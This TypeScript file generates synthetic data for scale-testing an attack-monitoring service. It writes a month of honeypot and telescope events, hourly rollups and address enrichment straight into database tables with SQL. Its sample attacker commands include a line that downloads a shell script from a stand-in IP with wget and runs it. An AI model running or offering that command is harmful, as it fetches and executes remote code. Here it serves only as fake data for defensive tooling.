// A month of a large sensor network, written straight into the attack tables by SQL (generate_series), not
// through the ingest: minutes for 30,000,000 events where the ingest would take hours. The events are drawn
// one address at a time and aggregated as they are drawn, never stored whole:
//
// - `ip_hourly` holds one row per (hour, address) aggregated from every drawn event as ingest and compaction
//   compute it (hourly.ts, compaction.ts), and `addresses` one row per source from those rows, with its
//   enrichment; compaction then builds the daily rollups and attack totals from them as it does in service;
// - `events` holds the raw events of a few hours only (`keptHours`): those a measured request reads raw
//   (stats counts attacks per port from the events of the hour its window starts in, the rest from
//   port_totals) and the newest ones (/api/recent). Nothing else reads raw events, so the other hours live
//   only as their rollups, as if their events had been ingested and aggregated: every drawn event is counted
//   in `ip_hourly` and in the per-hour port counts, the kept ones are also stored, so the rollups are exactly
//   what the stored events plus the unstored ones would have produced. Storing all 30,000,000 would take
//   about 15 GB of disk for rows no measured request reads;
// - `port_totals` is what compaction builds from events, so for the hours without stored events
//   `writePortTotals` rewrites it after compaction from the drawn events' counts per (hour, port).
//
// The shape is a deep-capture network's:
//
// - sources are heavy-tailed: address index k sends E·(((k+1)/N)^⅓ − (k/N)^⅓) events (rounded so that they
//   sum to E exactly), what drawing each event's address as N·u³ for a uniform u gives on average: the first
//   0.1% of addresses send about a tenth of all events and the long tail about ten each;
// - the busiest 1% attack all month, the rest within a period of their own of 1 to 72 hours;
// - 40% are telescope-only scanners, the rest honeypot attackers also seen by the telescope now and then;
//   logins (action 1) and, for one attacker in seven, commands (action 2);
// - the services' ports with a realistic weight (ssh first): each address mostly on a port of its own, now
//   and then on another, and one event in fifty on a random port;
// - countries, Chinese provinces and carriers, network types and a few research scanners as enrichment.
//
// Addresses are global IPv4 (first octets from /8s with no never-block space), distinct per index.
import type pg from 'pg';
import { SERVICE_PORTS, SERVICES, type Service } from '../common/vocabulary.ts';
import { MAX_PORTS } from '../api-server/ingest/hourly.ts';
import { inTransaction } from '../api-server/store/transaction.ts';

export interface ScaleOptions {
  /** Distinct source addresses, every one with events. */
  addresses: number;
  /** Events drawn in all (counted in the rollups; only those of `keptHours` stored). */
  events: number;
  days: number;
  /** The end of the month (ms). */
  now: number;
  /** Spans [from, to) (ms) whose raw events are stored in `events`. */
  keptHours: readonly { from: number; to: number }[];
  /** Progress lines (stderr). */
  progress?: (line: string) => void;
}

const FIRST_OCTETS = [
  2, 5, 14, 27, 31, 36, 37, 39, 42, 43, 45, 46, 49, 58, 59, 60, 61, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92,
  93, 94, 95, 101, 103, 106, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 175, 180, 182, 183, 185,
  188, 193, 194, 195, 202, 210, 211, 212, 213, 217, 218, 219, 220, 221, 222, 223,
];

/** Weight of each service among events on a service port. */
const SERVICE_WEIGHTS: Record<Service, number> = { ssh: 40, web: 18, telnet: 10, db: 8, rdp: 6, smb: 5, proxy: 4, vnc: 3, mail: 3, ics: 2, ai: 1 };

const COUNTRY_WEIGHTS: [string | null, number][] = [
  ['CN', 34], ['US', 14], ['RU', 6], ['BR', 5], ['IN', 5], ['VN', 4], ['KR', 4], ['DE', 3], ['NL', 3], ['TW', 2], ['ID', 2], ['GB', 2],
  ['FR', 2], ['SG', 2], ['HK', 1], ['JP', 1], ['UA', 1], ['IR', 1], ['TR', 1], ['TH', 1], ['MX', 1], ['AR', 1], ['PK', 1], ['EG', 1],
  ['BD', 1], ['PH', 1], ['CA', 1], ['IT', 1], ['ES', 1], ['PL', 1], [null, 1],
];

const PROVINCES = ['广东省', '江苏省', '浙江省', '北京市', '上海市', '山东省', '河南省', '四川省', '湖北省', '福建省'];
const USERNAMES = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'user', 'pi'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh', 'free -m'];

const quote = (s: string) => `'${s.replace(/'/g, "''")}'`;
const textArray = (xs: readonly (string | null)[]) => `array[${xs.map((x) => (x === null ? 'null' : quote(x))).join(',')}]::text[]`;
const intArray = (xs: readonly number[]) => `array[${xs.join(',')}]::int[]`;

/** Expands weights into a list a uniform index picks from. */
function weighted<T>(pairs: [T, number][]): T[] {
  return pairs.flatMap(([value, weight]) => Array.from({ length: weight }, () => value));
}

/** The service ports with their services, each service's ports sharing its weight (4 slots per weight unit). */
function portTable(): { ports: number[]; services: string[] } {
  const ports: number[] = [];
  const services: string[] = [];
  for (const service of SERVICES) {
    const list = SERVICE_PORTS[service];
    const slots = SERVICE_WEIGHTS[service] * 4;
    // The first port of a service takes half its events, the rest share the other half.
    for (let i = 0; i < slots; i++) {
      const port = i < slots / 2 ? list[0] : list[i % list.length];
      ports.push(port as number);
      services.push(service);
    }
  }
  return { ports, services };
}

function day(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10);
}

/** A hash of an integer SQL expression (PostgreSQL's own), as a fraction in [0, 1). */
const mix = (x: string, salt: number) => `((hashint8((${x})::bigint + ${salt})::bigint + 2147483648)::float8 / 4294967296)`;

/** The events addresses [0, k) send in all: E·(k/N)^⅓, rounded down (so each address's share sums to E). */
const eventsBefore = (k: string, o: ScaleOptions) => `floor(${o.events}::float8 * power((${k})::float8 / ${o.addresses}, 1::float8 / 3))`;

/** Address ranges [from, to) of about `slice` events each. */
function addressSlices(o: ScaleOptions, slice: number): [number, number][] {
  const bounds = [0];
  for (let e = slice; e < o.events; e += slice) {
    const k = Math.ceil(o.addresses * (e / o.events) ** 3);
    if (k > (bounds.at(-1) as number) && k < o.addresses) bounds.push(k);
  }
  bounds.push(o.addresses);
  return bounds.slice(1).map((to, i) => [bounds[i] as number, to]);
}

export async function buildScaleData(pool: pg.Pool, o: ScaleOptions): Promise<void> {
  const say = o.progress ?? (() => undefined);
  const start = o.now - o.days * 86_400_000;
  const client = await pool.connect();
  try {
    await client.query(`set work_mem = '256MB'; set maintenance_work_mem = '512MB'; set synchronous_commit = off`);
    await client.query('select ensure_attack_partitions($1::date, $2::date)', [day(start - 86_400_000), day(o.now + 2 * 86_400_000)]);
    const sensors = [...Array.from({ length: 30 }, (_, i) => `hp-${String(i + 1).padStart(2, '0')}`), ...Array.from({ length: 10 }, (_, i) => `tel-${String(i + 1).padStart(2, '0')}`)];
    await client.query('insert into sensors (name) select unnest($1::text[]) on conflict do nothing', [sensors]);
    // Staging: the hourly rows as drawn (by address), and the drawn events' counts per (hour, port).
    await client.query('create unlogged table scale_hourly (like ip_hourly)');
    await client.query('create unlogged table scale_port_hours (hour timestamptz not null, port integer not null, attacks bigint not null, service text)');

    const { ports, services } = portTable();
    const heavy = Math.max(1, Math.floor(o.addresses / 100));
    const kept = o.keptHours.map((r) => `(ts >= to_timestamp(${r.from / 1000}) and ts < to_timestamp(${r.to / 1000}))`).join(' or ') || 'false';
    const serviceArray = textArray(SERVICES);
    const t0 = Date.now();
    let drawn = 0;
    // A slice of addresses per statement (about a million events: progress, and bounded memory). An address's
    // events are all in one slice, so each slice's (hour, address) rows are final.
    for (const [lo, hi] of addressSlices(o, 1_000_000)) {
      const { rows } = await client.query<{ n: string }>(`
        with e as materialized (
        select to_timestamp(${start / 1000} + (${mix('a', 13)} * (${o.days * 24} - span)
                                                 + least(span, greatest(0, (floor(r1 * sessions) + 0.5) / sessions * span + (r4 - 0.5) * 0.5))) * 3600) as ts,
               -- the address: a first octet by index, the rest a bijection of the index on 24 bits
               '0.0.0.0'::inet + ((${intArray(FIRST_OCTETS)})[1 + a % ${FIRST_OCTETS.length}]::bigint * 16777216
                                  + ((a / ${FIRST_OCTETS.length})::bigint * 40503 % 16777216)) as src_ip,
               case when slot > 0 then (${intArray(ports)})[slot] else 1 + floor((r3 - 0.98) / 0.02 * 65535)::int end as dst_port,
               case when slot > 0 then (${textArray(services)})[slot] end as service,
               case when telescope then 'telescope' else 'honeypot' end as source,
               case when telescope then 'tel-' || lpad((1 + a % 10)::text, 2, '0')
                    else 'hp-' || lpad((1 + (a + floor(r1 * 3)::int) % 30)::text, 2, '0') end as sensor,
               action,
               case when action = 1 then (${textArray(USERNAMES)})[1 + ((a + g) % ${USERNAMES.length})] end as username,
               case when action = 2 then (${textArray(COMMANDS)})[1 + ((a + g) % ${COMMANDS.length})] end as command
        from (
          select g, a, r1, r3, r4, telescope, span, ceil(span / 8) as sessions, action,
                 -- an address's own port takes most of its events, a second one some, any other the rest
                 1 + floor(${ports.length} * case when r3 < 0.8 then ${mix('a', 21)} when r3 < 0.95 then ${mix('a', 22)}
                                                   else (r3 - 0.95) / 0.03 end)::int * (r3 < 0.98)::int - (r3 >= 0.98)::int as slot
          from (select g, a, r1, r3, r4, telescope,
                 case when a < ${heavy} then ${o.days * 24}.0 else 1 + ${mix('a', 7)} * 71 end as span,
                 (case when telescope then 0 when a % 7 = 0 and r2 > 0.9 then 2 when r2 > 0.35 then 1 else 0 end)::smallint as action
          from (
            -- a % 5 < 2: a telescope-only scanner; the others reach the telescope one event in seven
            select g, a, r1, r2, r3, r4, a % 5 < 2 or r2 < 0.15 as telescope
            from (select g, a, random() as r1, random() as r2, random() as r3, random() as r4
                  from (select a, (${eventsBefore('a + 1', o)} - ${eventsBefore('a', o)})::int as n
                        from generate_series(${lo}, ${hi - 1}) a) per_address,
                       generate_series(1, n) g) draws) actor) sessions) drawn),
        hourly as (
          insert into scale_hourly (hour, ip, attacks, services, sources, max_action, ports, sensors, first_seen, last_seen)
          select date_bin('1 hour', e.ts, timestamptz 'epoch'), e.src_ip, count(*),
                 coalesce(bit_or(1 << (array_position(${serviceArray}, e.service) - 1)), 0),
                 bit_or(case e.source when 'honeypot' then 1 else 2 end), max(e.action),
                 coalesce((array_agg(distinct e.dst_port order by e.dst_port) filter (where e.dst_port is not null))[1:${MAX_PORTS}], '{}'),
                 array_agg(distinct s.id order by s.id), min(e.ts), max(e.ts)
          from e join sensors s on s.name = e.sensor
          group by 1, 2),
        port_hours as (
          insert into scale_port_hours (hour, port, attacks, service)
          select date_bin('1 hour', ts, timestamptz 'epoch'), dst_port, count(*), min(service) from e where dst_port is not null group by 1, 2),
        stored as (
          insert into events (ts, id, src_ip, dst_port, service, proto, source, sensor, action, username, command)
          select ts, gen_random_uuid(), src_ip, dst_port, service, 'tcp', source, sensor, action, username, command
          from e where ${kept})
        select count(*)::text as n from e`);
      drawn += Number(rows[0]?.n);
      say(`events ${drawn} of ${o.events} drawn, addresses ${hi} of ${o.addresses} (${((Date.now() - t0) / 1000).toFixed(0)} s)`);
    }
    if (drawn !== o.events) throw new Error(`drew ${drawn} events, not ${o.events}`);

    // In time order, as ingest appends them.
    await client.query('insert into ip_hourly select * from scale_hourly order by hour, ip');
    await client.query('drop table scale_hourly');
    say(`ip_hourly (${((Date.now() - t0) / 1000).toFixed(0)} s)`);
    // One address per source: its facts from its hourly rows (times to the row's last event, close enough
    // for classification), its enrichment from a hash of the address.
    const countries = weighted(COUNTRY_WEIGHTS);
    await client.query(`
      insert into addresses (ip, first_seen, last_seen, last_honeypot, last_telescope, last_interaction, last_high, last_critical,
                             service_last, sensor_ids, sensor_last, country, province, isp, net, asn, scanner_kind, scanner_org)
      select h.ip, h.first_seen, h.last_seen, h.last_honeypot, h.last_telescope, h.last_interaction, h.last_high, h.last_critical,
             h.service_last, h.sensor_ids, array_fill(h.last_seen, array[cardinality(h.sensor_ids)]),
             x.country, case when x.country = 'CN' then (${textArray(PROVINCES)})[1 + x.k % ${PROVINCES.length}] end,
             case when x.country = 'CN' then (array['电信','联通','移动'])[1 + x.k % 3] end,
             (array['idc','broadband','mobile','edu'])[1 + (x.k / 7) % 4], 4134 + x.k % 500,
             case when x.k % 400 = 0 then 'research_scanner' when x.k % 150 = 0 then 'asset_scanner' end,
             case when x.k % 400 = 0 then 'Research Mapping' when x.k % 150 = 0 then 'Asset Search' end
      from (
        select ip, min(first_seen) as first_seen, max(last_seen) as last_seen,
               max(last_seen) filter (where sources & 1 = 1) as last_honeypot,
               max(last_seen) filter (where sources & 2 = 2) as last_telescope,
               max(last_seen) filter (where sources & 1 = 1 and max_action >= 1) as last_interaction,
               max(last_seen) filter (where max_action >= 1) as last_high,
               max(last_seen) filter (where max_action = 2) as last_critical,
               array[${SERVICES.map((_, i) => `max(last_seen) filter (where services & ${1 << i} <> 0)`).join(', ')}] as service_last,
               (array_agg(sensors[1] order by last_seen desc))[1:2] as sensor_ids
        from ip_hourly group by ip) h,
      lateral (select ${mix("(h.ip - '0.0.0.0'::inet)", 99)} as f) f,
      lateral (select (${textArray(countries)})[1 + floor(f.f * ${countries.length})::int] as country,
                      floor(f.f * 1000000)::int as k) x`);
    say(`addresses (${((Date.now() - t0) / 1000).toFixed(0)} s)`);
    await client.query('analyze events');
    await client.query('analyze ip_hourly');
    await client.query('analyze addresses');
  } finally {
    client.release();
  }
}

/**
 * Replaces the port totals compaction built from the stored events with those of every drawn event (after
 * `compactHourly`), as compaction builds them: per hour, then per day from the hours.
 */
export async function writePortTotals(pool: pg.Pool): Promise<void> {
  await inTransaction(pool, async (client) => {
    await client.query('delete from port_totals');
    await client.query(`insert into port_totals (period, hours, port, attacks, service)
      select hour, 1, port, sum(attacks), min(service) from scale_port_hours group by hour, port`);
    await client.query(`insert into port_totals (period, hours, port, attacks, service)
      select date_bin('1 day', period, timestamptz 'epoch'), 24, port, sum(attacks), min(service)
      from port_totals where hours = 1 group by 1, port`);
    await client.query('drop table scale_port_hours');
  });
  await pool.query('analyze port_totals');
}
